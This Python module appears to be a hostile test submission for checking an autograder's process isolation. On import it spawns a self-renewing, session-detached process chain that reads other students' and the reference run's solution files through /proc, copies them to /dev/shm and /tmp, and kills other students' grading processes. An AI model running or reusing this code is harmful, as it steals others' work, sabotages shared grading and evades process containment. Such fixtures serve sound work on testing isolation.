"""Attack: at import, starts a chain of processes that grows a new link at the bottom as the top one
exits, each link in a session of its own, so that killing a worker's children, or its process group,
never catches it. While it lives (45 s at most, whatever happens), every link copies the solution
files of every grading child it can see (through /proc/<pid>/cwd: the reference run's workspace, other
students') to /dev/shm and /tmp, and kills the children grading other students. Nothing here is solved.

A grader whose containment lets a process outlive its part loses another student's points to this,
and hands the copied reference to attack_load_stolen in its next run.
"""
import os
import sys
import time

MARKER = "@@MARKER@@"  # tests/test_isolation.py scans /proc and the temporary folders for it

CHAIN = r'''
import os, shutil, signal, sys, time
marker, deadline = sys.argv[1], float(sys.argv[2])
while time.time() < deadline:
    try:
        if os.fork():
            os._exit(0)  # the top link leaves; the new bottom link goes on
        os.setsid()
    except OSError:
        pass  # out of processes: go on as this link
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            if b"_harness.py" not in open(f"/proc/{pid}/cmdline", "rb").read():
                continue
            cwd = os.readlink(f"/proc/{pid}/cwd")
            texts = {name: open(os.path.join(cwd, "layers", name)).read()
                     for name in ("utils.py", "Maxpool2D.py", "Conv2D.py")}
        except OSError:
            continue
        if any(marker in text for text in texts.values()):
            continue  # an accomplice (attack_load_stolen): spare it
        solved = {name: text for name, text in texts.items() if "NotImplementedError(" not in text}
        for folder in ("/dev/shm/" + marker, "/tmp/" + marker):
            for name, text in solved.items():
                try:
                    os.makedirs(folder, exist_ok=True)
                    os.chmod(folder, 0o777)
                    with open(os.path.join(folder, name), "w") as f:
                        f.write(text)
                except OSError:
                    pass
        if len(solved) < len(texts):  # a student's part, not the reference run, which must go on to be copied
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    time.sleep(0.05)
'''


def _start():
    if os.fork() == 0:
        try:
            os.setsid()
            os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", CHAIN, MARKER, str(time.time() + 45)])
        finally:
            os._exit(0)


_start()
time.sleep(1)  # let the chain grow while this part is still running


def zero_padding(X, pad):
    raise NotImplementedError("attack_process_chain solves nothing")
